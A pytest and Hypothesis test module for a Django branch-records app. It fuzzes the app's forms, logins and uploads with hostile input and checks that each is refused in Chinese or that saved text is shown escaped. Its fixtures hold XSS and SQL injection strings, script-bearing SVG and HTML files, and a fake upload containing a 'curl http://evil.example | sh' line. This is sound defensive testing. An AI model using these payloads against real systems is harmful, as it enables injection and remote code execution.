"""Random and hostile input to every form: very long text, control characters, emoji,
HTML and script, impossible dates, negative numbers, ids of other branches' real
records, hostile files. Never a 500. Two properties per form:

- every value random or hostile, one of them surely wrong: the form comes back with a
  message in Chinese and nothing is saved;
- every value valid except the text, which is hostile: either saved, and then the
  record's page shows the text escaped, or refused with a message in Chinese.
"""

import re
from dataclasses import dataclass, field
from datetime import timedelta
from html import unescape

import pytest
from django import forms
from django.apps import apps
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from branches.models import PartnerOrganization

from .factories import (
    ActivityFactory,
    ChecklistFactory,
    MeetingFactory,
    PartyGroupFactory,
    StudyPlanItemFactory,
    attach_photo,
    png_bytes,
)

LEDGER_APPS = [
    "accounts",
    "branches",
    "responsibilities",
    "activities",
    "attachments",
    "rectifications",
    "reports",
]
# What a page must show escaped, never as markup.
MARKUP = ["<script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>"]
HOSTILE_VALUES = [
    *MARKUP,
    "'; DROP TABLE branches_member; --",
    "\x00\x01\x02\x1b[31m",
    "😀🇨🇳" * 50,
    "长" * 5000,
    "2024-02-30",
    "0000-00-00",
    "-1",
    "-99999999999999999999",
    "1e309",
    "NaN",
    "",
    " ",
]
HOSTILE = st.one_of(
    st.text(max_size=40),
    st.text(st.characters(codec="utf-8"), min_size=1, max_size=20),
    st.sampled_from(HOSTILE_VALUES),
)
EXAMPLES = {"refused": 8, "text": 6, "login": 20, "bundle": 10}
PROPERTY = {
    "deadline": None,
    "suppress_health_check": [HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
}
# The text of error messages and of warnings (a step refused because someone took one
# meanwhile is a warning).
ERROR = re.compile(
    r'class="[^"]*\b(?:invalid-feedback|alert-danger|alert-warning|errorlist)\b[^"]*"[^>]*>(.*?)</',
    re.S,
)
CJK = re.compile(r"[\u4e00-\u9fff]")
TAG = re.compile(r"<[^>]*>")


@dataclass
class Form:
    """A form page, who fills it in, the value each refused example always gets wrong,
    and (None: not tried with hostile text only) what makes the page's initial values
    valid."""

    name: str
    args: object
    role: str
    wrong: object
    valid: object = field(default=lambda w: {})
    query: str = ""


def _in_days(days):
    return (timezone.localdate() + timedelta(days=days)).isoformat()


def _script_file(name):
    return SimpleUploadedFile(name, b"#!/bin/sh\ncurl http://evil.example | sh\n")


FORMS = [
    Form("activities:meeting_create", lambda w: [w.branch.pk], "secretary",
         lambda w: {"held_on": "2024-02-30"}, lambda w: {"topic": "支委会"}, "?kind=committee"),
    Form("activities:meeting_edit", lambda w: [w.meeting.pk], "secretary",
         lambda w: {"host": w.sibling_member.pk}),
    Form("activities:activity_create", lambda w: [w.branch.pk], "secretary",
         lambda w: {"held_on": "2024-13-01"}, lambda w: {"kind": "volunteer", "title": "志愿服务"}),
    Form("activities:activity_edit", lambda w: [w.activity.pk], "secretary",
         lambda w: {"members": [w.sibling_member.pk]}),
    Form("activities:honour_create", lambda w: [w.branch.pk], "secretary",
         lambda w: {"members": [w.sibling_member.pk]},
         lambda w: {"kind": "letter", "title": "表扬信"}),
    Form("activities:honour_edit", lambda w: [w.honour.pk], "secretary",
         lambda w: {"awarded_on": "0000-00-00"}),
    Form("activities:study_item_create", lambda w: [w.branch.pk, 2024], "secretary",
         lambda w: {"month": "13"}, lambda w: {"topic": "学习专题", "form": "group_study"}),
    Form("activities:study_item_edit", lambda w: [w.plan_item.pk], "secretary",
         lambda w: {"owner": w.sibling_member.pk}),
    Form("branches:member_create", lambda w: [w.branch.pk], "secretary",
         lambda w: {"gender": "unknown"}, lambda w: {"name": "新党员", "gender": "male"}),
    Form("branches:member_edit", lambda w: [w.member.pk], "secretary",
         lambda w: {"group": w.foreign.group.pk}),
    Form("branches:group_create", lambda w: [w.branch.pk], "secretary",
         lambda w: {"leader": w.sibling_member.pk}, lambda w: {"name": "第二党小组"}),
    Form("branches:group_edit", lambda w: [w.group.pk], "secretary",
         lambda w: {"formed_on": "2999-01-01"}),
    Form("branches:partner_add", lambda w: [w.branch.pk], "secretary",
         lambda w: {"name": ""}, lambda w: {"name": "共建单位"}),
    Form("branches:edit", lambda w: [w.branch.pk], "secretary",
         lambda w: {"founded_on": "-1"}),
    Form("branches:member_transfer_out", lambda w: [w.member.pk], "secretary",
         lambda w: {"transferred_out_on": "2999-01-01"}),
    Form("branches:member_import", lambda w: [w.branch.pk], "secretary",
         lambda w: {"file": _script_file("roster.xlsx")}, None),
    Form("responsibilities:create", lambda w: [w.branch.pk], "secretary",
         lambda w: {"members": [w.sibling_member.pk]},
         lambda w: {"kind": "responsibility_zone", "name": "责任区"}),
    Form("responsibilities:edit", lambda w: [w.zone.pk], "secretary",
         lambda w: {"members": [w.sibling_member.pk], "kind": "nonsense"}),
    Form("responsibilities:milestone_create", lambda w: [w.zone.pk], "secretary",
         lambda w: {"due_on": "0000-00-00"}, lambda w: {"title": "节点", "due_on": _in_days(10)}),
    Form("responsibilities:milestone_edit", lambda w: [w.milestone.pk], "secretary",
         lambda w: {"due_on": "2024-02-30"}),
    Form("responsibilities:milestone_done", lambda w: [w.milestone.pk], "member",
         lambda w: {"done_on": "2999-01-01"}, lambda w: {"note": "已完成"}),
    Form("rectifications:checklist_create", lambda w: [w.branch.pk], "secretary",
         lambda w: {"meeting": w.foreign.meeting.pk},
         lambda w: {"title": "问题清单", "source": "safety_check"}),
    Form("rectifications:checklist_edit", lambda w: [w.checklist.pk], "secretary",
         lambda w: {"activity": w.foreign.activity.pk}),
    Form("rectifications:item_create", lambda w: [w.checklist.pk], "secretary",
         lambda w: {"owner": w.sibling_member.pk},
         lambda w: {"problem": "隐患", "category": "safety", "owner": w.member.pk}),
    Form("rectifications:item_edit", lambda w: [w.item.pk], "secretary",
         lambda w: {"deadline": "NaN"}),
    Form("rectifications:item_import", lambda w: [w.checklist.pk], "secretary",
         lambda w: {"pasted": "问题\t天气\t查无此人\t\t\t不是日期", "file": ""}),
    Form("rectifications:item_progress", lambda w: [w.item.pk], "member",
         lambda w: {"move": "close"}, lambda w: {"move": "report", "note": "进展"}),
    Form("rectifications:item_verify", lambda w: [w.submitted_item.pk], "secretary",
         lambda w: {"move": "send_back", "note": ""}, None),
    Form("reports:edit", lambda w: [w.branch.pk, 2024], "secretary",
         lambda w: {"block_meetings": "99", "photos": [w.foreign.photo.pk]}),
    Form("password_change", lambda w: [], "secretary",
         lambda w: {"old_password": "not-the-password"}, None),
]  # fmt: skip
TEXT_FORMS = [form for form in FORMS if form.valid is not None]


@dataclass
class Foreign:
    """Real records of the sibling branch, for choice fields to name."""

    group: object
    meeting: object
    activity: object
    plan_item: object
    checklist: object
    photo: object
    partner: object

    def keys(self):
        return [str(record.pk) for record in vars(self).values()]


@pytest.fixture
def hostile_world(world):
    sibling = world.sibling
    meeting = MeetingFactory(branch=sibling, topic="乙支委会")
    partner = PartnerOrganization.objects.create(headquarters=world.committee, name="乙共建单位")
    sibling.partners.add(partner)
    world.foreign = Foreign(
        group=PartyGroupFactory(branch=sibling, name="乙党小组"),
        meeting=meeting,
        activity=ActivityFactory(branch=sibling, title="乙志愿服务"),
        plan_item=StudyPlanItemFactory(plan__branch=sibling, plan__year=2024),
        checklist=ChecklistFactory(branch=sibling, title="乙隐患清单"),
        photo=attach_photo(meeting),
        partner=partner,
    )
    return world


def fingerprint():
    """Every row of every ledger table and of the users."""
    return {
        model._meta.label: list(model.objects.order_by("pk").values_list())
        for label in LEDGER_APPS
        for model in apps.get_app_config(label).get_models(include_auto_created=True)
    }


def _forms_on(response):
    """The page's form and, on a meeting, its attendance sheet."""
    return [response.context[name] for name in ("form", "sheet") if response.context.get(name)]


def initial_data(page_forms):
    """What a browser would post for the forms as the page shows them."""
    data = {}
    for form in page_forms:
        for name, form_field in form.fields.items():
            key = form.add_prefix(name)
            value = form[name].value()
            if isinstance(form_field, forms.FileField):
                continue
            if isinstance(form_field, forms.BooleanField):
                if value:
                    data[key] = "on"
            elif value is None:
                data[key] = ""
            elif isinstance(value, (list, tuple)):
                data[key] = [str(item) for item in value]
            else:
                data[key] = str(value)
    return data


def error_messages(page):
    messages = [unescape(TAG.sub("", text)).strip() for text in ERROR.findall(page)]
    return [message for message in messages if message]


def assert_refused_in_chinese(response, data):
    assert response.status_code == 200, (response.status_code, data)
    page = response.content.decode()
    assert '<html lang="zh-hans">' in page
    messages = error_messages(page)
    assert messages, f"no error shown for {data}"
    assert all(CJK.search(message) for message in messages), messages


def _hostile_keys(world):
    return st.one_of(HOSTILE, st.sampled_from(world.foreign.keys()))


@pytest.mark.parametrize("form", FORMS, ids=[form.name for form in FORMS])
def test_hostile_input_is_refused_clearly_and_changes_nothing(client, hostile_world, form, capsys):
    world = hostile_world
    client.force_login(world.users[form.role])
    url = reverse(form.name, args=form.args(world)) + form.query
    keys = list(initial_data(_forms_on(client.get(url))))
    before = fingerprint()
    examples = 0

    @settings(max_examples=EXAMPLES["refused"], **PROPERTY)
    @given(st.fixed_dictionaries({key: _hostile_keys(world) for key in keys}))
    def post(data):
        nonlocal examples
        examples += 1
        data = {**data, **form.wrong(world)}
        assert_refused_in_chinese(client.post(url, data), data)
        assert fingerprint() == before, f"saved something from {data}"

    post()
    with capsys.disabled():
        print(f"\nbad input: {form.name}: {examples} hostile examples, each refused")


def _text_fields(page_forms):
    """{posted name: max length} of the free-text fields."""
    return {
        form.add_prefix(name): form_field.max_length
        for form in page_forms
        for name, form_field in form.fields.items()
        if type(form_field) is forms.CharField and not form_field.widget.is_hidden
    }


def hostile_text(max_length):
    limit = max_length or 5000
    texts = st.one_of(
        st.sampled_from(
            [*MARKUP, "\x01\x02\x1b[31m\x7f", "😀🇨🇳👨‍👩‍👧" * 20, "\u202eevil", "a\r\nb"]
        ),
        st.just("长" * limit),
        st.text(st.characters(codec="utf-8"), max_size=60),
    )
    return texts.map(lambda text: text[:limit])


@pytest.mark.parametrize("form", TEXT_FORMS, ids=[form.name for form in TEXT_FORMS])
def test_hostile_text_is_saved_escaped_or_refused_clearly(client, hostile_world, form, capsys):
    world = hostile_world
    client.force_login(world.users[form.role])
    url = reverse(form.name, args=form.args(world)) + form.query
    text_fields = _text_fields(_forms_on(client.get(url)))
    assert text_fields, f"{form.name} has no text field"
    outcomes = {"saved": 0, "refused": 0}

    @settings(max_examples=EXAMPLES["text"], **PROPERTY)
    @given(st.fixed_dictionaries({key: hostile_text(limit) for key, limit in text_fields.items()}))
    def post(texts):
        page = client.get(url)
        if page.status_code != 200:
            return  # an earlier example was saved and ended it: a member transferred out
        data = {**initial_data(_forms_on(page)), **form.valid(world), **texts}
        response = client.post(url, data)
        if response.status_code == 302:
            outcomes["saved"] += 1
            shown = client.get(response["Location"])
            assert shown.status_code == 200, (response["Location"], shown.status_code)
            for markup in MARKUP:
                assert markup not in shown.content.decode(), response["Location"]
        else:
            outcomes["refused"] += 1
            assert_refused_in_chinese(response, data)

    post()
    with capsys.disabled():
        print(
            f"\nbad input: {form.name}: hostile text {outcomes['saved']} times saved and "
            f"shown escaped, {outcomes['refused']} times refused"
        )


HOSTILE_FILES = {
    "a script renamed .jpg": lambda: _script_file("photo.jpg"),
    "an HTML page renamed .pdf": lambda: SimpleUploadedFile(
        "report.pdf", b"<html><script>alert(1)</script></html>"
    ),
    "an SVG with a script": lambda: SimpleUploadedFile(
        "photo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    ),
    "a zip": lambda: SimpleUploadedFile("photos.zip", b"PK\x03\x04" + b"\0" * 200),
    "a truncated PNG": lambda: SimpleUploadedFile("photo.png", png_bytes()[:40]),
    "a file over the size limit": lambda: SimpleUploadedFile(
        "huge.png", png_bytes().ljust(django_settings.ATTACHMENT_MAX_BYTES + 1, b"\0")
    ),
}


@dataclass
class Upload:
    """A form taking files: its file field, and what else makes the form valid."""

    name: str
    args: object
    role: str
    file_field: str
    valid: object = field(default=lambda w: {})


UPLOADS = [
    Upload("activities:meeting_edit", lambda w: [w.meeting.pk], "secretary", "uploads"),
    Upload("activities:activity_edit", lambda w: [w.activity.pk], "secretary", "uploads"),
    Upload("activities:honour_edit", lambda w: [w.honour.pk], "secretary", "uploads"),
    Upload("rectifications:item_progress", lambda w: [w.item.pk], "member", "uploads",
           lambda w: {"move": "report", "note": "进展"}),
    Upload("branches:member_import", lambda w: [w.branch.pk], "secretary", "file"),
    Upload("rectifications:item_import", lambda w: [w.checklist.pk], "secretary", "file"),
]  # fmt: skip


@pytest.mark.parametrize("form", UPLOADS, ids=[form.name for form in UPLOADS])
def test_hostile_files_are_refused_clearly_and_change_nothing(client, world, form):
    client.force_login(world.users[form.role])
    url = reverse(form.name, args=form.args(world))
    data = initial_data(_forms_on(client.get(url))) | form.valid(world)
    before = fingerprint()
    for hostile, make_file in HOSTILE_FILES.items():
        response = client.post(url, {**data, form.file_field: make_file()})
        assert_refused_in_chinese(response, hostile)
        assert fingerprint() == before, hostile


def test_a_hostile_report_bundle_request_is_refused_and_saves_nothing(client, world, capsys):
    client.force_login(world.users["hq"])
    before = fingerprint()
    examples = 0

    @settings(max_examples=EXAMPLES["bundle"], **PROPERTY)
    @given(year=HOSTILE)
    def post(year):
        nonlocal examples
        examples += 1
        response = client.post(reverse("reports:bundle_create"), {"year": year})
        assert response.status_code == 404, (response.status_code, year)
        assert CJK.search(response.content.decode())
        assert fingerprint() == before

    post()
    with capsys.disabled():
        print(f"\nbad input: reports:bundle_create: {examples} hostile years refused")


def test_hostile_logins_are_refused_without_error(client, world, capsys):
    examples = 0

    @settings(max_examples=EXAMPLES["login"], **PROPERTY)
    @given(username=HOSTILE, password=HOSTILE)
    def post(username, password):
        nonlocal examples
        examples += 1
        response = client.post(reverse("login"), {"username": username, "password": password})
        assert response.status_code in (200, 429)

    post()
    with capsys.disabled():
        print(f"\nbad input: login: {examples} hostile logins refused")
